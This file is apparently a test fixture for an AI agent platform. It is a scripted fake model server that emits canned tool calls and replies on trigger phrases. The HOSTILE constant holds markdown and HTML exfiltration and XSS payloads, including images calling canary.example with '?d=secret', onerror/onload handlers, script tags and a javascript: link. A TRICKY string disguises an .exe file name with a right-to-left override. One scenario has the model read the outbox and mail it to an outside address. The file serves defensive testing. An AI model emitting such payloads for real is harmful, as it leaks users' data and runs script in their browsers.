// A real server whose model does odd things when it is asked for them.

import type { ServerResponse } from 'node:http';
import { type Outside, addTool, startOutside } from './outside';
import { type TestServer, startServer } from './server';

/** What the model says when it is asked to speak slowly. */
export const WORDS = Array.from({ length: 400 }, (_, n) => `word${n}`);

/** The tools that do not come with Helve. */
export const ADDED = new Set(['outbox', 'send_mail', 'slow_reading', 'glance', 'barometer', 'report', 'dot']);

const WORD_MS = 12;

/** So long a slow tool takes. */
const SLOW_MS = 4_000;

const TRICKY = `invoice\u202egpj.exe <img src=x onerror=alert(1)>\u200b${'\n'.repeat(300)}the end`;

const HOSTILE = [
  '![leak](https://canary.example/inline.png?d=secret)',
  '![leak][ref]\n\n[ref]: https://canary.example/reference.png',
  '<img src="https://canary.example/html.png" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><image href="https://canary.example/svg.png"/></svg>',
  '<style>body{background:url(https://canary.example/css.png)}</style>',
  '<script>window.pwned=1</script> [click](javascript:window.pwned=1)',
  'The end of it.',
].join('\n\n');

/** A picture of one pixel. */
const DOT = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** How often something was glanced at. */
let glances = 0;
let hasGlanced = false;
const isGlancedAt = () => glances > 0;

type Call = [name: string, input: object];

/** What it calls, after so many results. */
function callsFor(text: string, results: number): Call[] {
  if (/over and over|一直重复/.test(text)) return [['time', {}]];
  if (results === 1 && /send out what you read|读完再发/.test(text)) return [['send_mail', { to: 'eve@example.org' }]];
  if (results > 0) return [];
  if (/read the outbox|读发件箱|send out what you read|读完再发/.test(text)) return [['outbox', {}]];
  if (/read slowly|慢慢读/.test(text)) return [['slow_reading', {}]];
  if (/read the pressure|读气压/.test(text)) return [['barometer', {}]];
  if (/bring the files|取文件/.test(text)) return ['report', 'dot'].map((name) => [name, {}]);
  if (/two fields wrong|填错/.test(text))
    return [['send_mail', { subject: 'A subject that is much too long', copies: 50 }]];
  if (/unknown tool|没有的工具/.test(text)) return [['no_such_thing', {}]];
  if (/two notes|两条笔记/.test(text)) return ['first', 'second'].map((note) => ['save_note', { text: note }]);
  if (/tricky note|古怪的笔记/.test(text)) return [['save_note', { text: TRICKY }]];
  if (/cut off the mail|发邮件/.test(text)) return [['send_mail', { to: 'mei@example.org', subject: 'Nine o’clock' }]];
  if (/divide by zero|除以零/.test(text)) return [['calculator', { expression: '1/0' }]];
  if (/search for|搜索/.test(text)) return [['search_web', { query: 'tea' }]];
  return [];
}

interface Asked {
  model: string;
  messages: { role: string; content: string }[];
}

/** A model server in OpenAI's form. */
async function speak({ model, messages }: Asked, response: ServerResponse): Promise<void> {
  if (model === 'down') return void response.writeHead(503).end('out of order');
  const asked = messages.findLastIndex(({ role }) => role === 'user');
  const text = messages[asked]?.content ?? '';
  const results = messages.slice(asked).filter(({ role }) => role === 'tool').length;
  const send = (delta: object, finish: string | null = null, more: object = {}) =>
    response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }], ...more })}\n\n`);
  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
  const calls = callsFor(text, results).map(([name, input], index) => ({
    index,
    id: `call_${index + 1}`,
    type: 'function',
    function: { name, arguments: JSON.stringify(input) },
  }));
  if (/break down|中断/.test(text) && results === 0) {
    send({ role: 'assistant', content: 'I begin, and then ' });
    await pause(300);
    response.destroy();
    return;
  }
  if (/glance at it early|提前看一眼/.test(text) && !hasGlanced) {
    // The message breaks off once the first of its calls was sent; it is complete where the second begins.
    hasGlanced = true;
    const call = (index: number) => ({
      tool_calls: [{ index, id: `call_${index}`, type: 'function', function: { name: 'glance', arguments: '{}' } }],
    });
    send({ role: 'assistant', content: 'I look, and ' });
    send(call(0));
    send(call(1));
    for (let waited = 0; !isGlancedAt() && waited < 5_000; waited += 20) await pause(20);
    await pause(300);
    response.destroy();
    return;
  }
  if (calls.length > 0) {
    send({ role: 'assistant', tool_calls: calls });
  } else if (/slowly|慢慢/.test(text)) {
    for (const word of WORDS) {
      send({ content: `${word} ` });
      await pause(WORD_MS);
      if (response.destroyed) return;
    }
  } else {
    send({ role: 'assistant', content: text.includes('hostile markdown') ? HOSTILE : 'That was all.' });
  }
  // The narrow one counts what it reads.
  const read = model === 'n' ? JSON.stringify(messages).length : 40;
  const usage = { prompt_tokens: read, completion_tokens: 6, total_tokens: read + 6 };
  send({}, calls.length > 0 ? 'tool_calls' : 'stop', { usage });
  response.end('data: [DONE]\n\n');
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

export interface OddWorld {
  server: TestServer;
  url: string;
  /** The signed links that were sent to whoever decides, the newest last. */
  links: string[];
  close: () => Promise<void>;
}

/** `more` makes configuration beside its own, of the lines that lead to its model server. */
export async function startOddWorld(more: (common: string) => string = () => ''): Promise<OddWorld> {
  const model = await startOutside((request, response) => {
    let body = '';
    request.on('data', (piece: Buffer) => (body += piece.toString()));
    request.on('end', () => void speak(JSON.parse(body) as Asked, response));
  });
  let pressures = 0;
  const post = await startOutside((request, response) => {
    // A mail is taken, and nobody ever hears of it.
    if (request.method === 'POST') return void request.on('end', () => request.socket.destroy()).resume();
    const answer = (status = 200, text = '1 mail') =>
      response.writeHead(status, { 'Content-Type': 'text/plain' }).end(text);
    switch (request.url) {
      case '/slow':
        return void setTimeout(answer, SLOW_MS);
      case '/glance':
        glances += 1;
        return answer();
      case '/pressure':
        pressures += 1;
        return pressures === 1 ? answer(200, '1013 hPa') : answer(500, 'The barometer fell down.');
      case '/report.pdf':
        return response.writeHead(200, { 'Content-Type': 'application/pdf' }).end('%PDF-1.4 a report\n');
      case '/dot.png':
        return response.writeHead(200, { 'Content-Type': 'image/png' }).end(DOT);
      default:
        return answer();
    }
  });
  const links: string[] = [];
  const webhook = await startOutside((request, response) => {
    let body = '';
    request.on('data', (piece: Buffer) => (body += piece.toString()));
    request.on('end', () => {
      links.push((JSON.parse(body) as { link: string }).link);
      response.writeHead(204).end();
    });
  });
  const server = await startServer({ config: config(model, post, webhook, more) });
  await addTools(server, post);
  const outsides = [model, post, webhook];
  const close = async () => void (await Promise.all([server.close(), ...outsides.map((one) => one.close())]));
  return { server, url: server.url, links, close };
}

function config(model: Outside, post: Outside, webhook: Outside, more: (common: string) => string): string {
  const common = `protocol = "openai_chat"\nbase_url = "http://${model.host}/v1"\ntools = "native"\nprobe = false`;
  return `
    default_model = "odd"
    [[models]]
    name = "odd"
    model = "m"
    price = { input = 0.25, cached = 0.025, output = 2.00 }
    ${common}
    [[models]]
    name = "house"
    model = "gpt-5-mini"
    price = { input = 0.25, cached = 0.025, output = 2.00 }
    ${common}
    [models.variants]
    brief = { max_tokens = 300 }
    thorough = { max_tokens = 3000 }
    [[models]]
    name = "small"
    model = "qwen3:0.6b"
    protocol = "openai_chat"
    base_url = "http://${model.host}/v1"
    tools = "prompt:hermes"
    probe = false
    [[models]]
    name = "volcano"
    vendor = "ark"
    model = "doubao"
    [[models]]
    name = "desk"
    vendor = "ollama"
    base_url = "http://127.0.0.1:9"
    model = "qwen3:8b"
    [[models]]
    name = "down"
    model = "down"
    ${common}
    [approvals]
    webhook = "http://${webhook.host}/asked"
    [egress]
    allow = ["${post.host}"]
    ${more(common)}`;
}

async function addTools(server: TestServer, post: Outside): Promise<void> {
  const parameters = {
    type: 'object',
    properties: {
      to: { type: 'string' },
      subject: { type: 'string', maxLength: 20 },
      copies: { type: 'integer', maximum: 3 },
    },
  };
  const endpoint = { url: `http://${post.host}/outbox`, method: 'GET' };
  const cache = { ttl_ms: 60_000, scope: 'user' };
  await addTool(server, { name: 'outbox', description: 'Looks into the outbox.', parameters, endpoint, cache });
  const slow = { url: `http://${post.host}/slow`, method: 'GET' };
  const reads = {
    glance: ['Glances.', 'glance'],
    barometer: ['Reads the pressure.', 'pressure'],
    report: ['Brings the report.', 'report.pdf'],
    dot: ['Brings the picture.', 'dot.png'],
  };
  for (const [name, [description, path]] of Object.entries(reads)) {
    const more = name === 'barometer' ? { attempts: 1, fallback: { last_good_ms: 3_600_000 } } : {};
    const readFrom = { url: `http://${post.host}/${path}`, method: 'GET' };
    await addTool(server, { name, description, endpoint: readFrom, ...more });
  }
  await addTool(server, { name: 'slow_reading', description: 'Reads slowly.', endpoint: slow });
  await addTool(server, {
    name: 'send_mail',
    description: 'Sends a mail.',
    parameters,
    endpoint: { url: `http://${post.host}/send`, method: 'POST' },
    check_tool: 'outbox',
  });
}
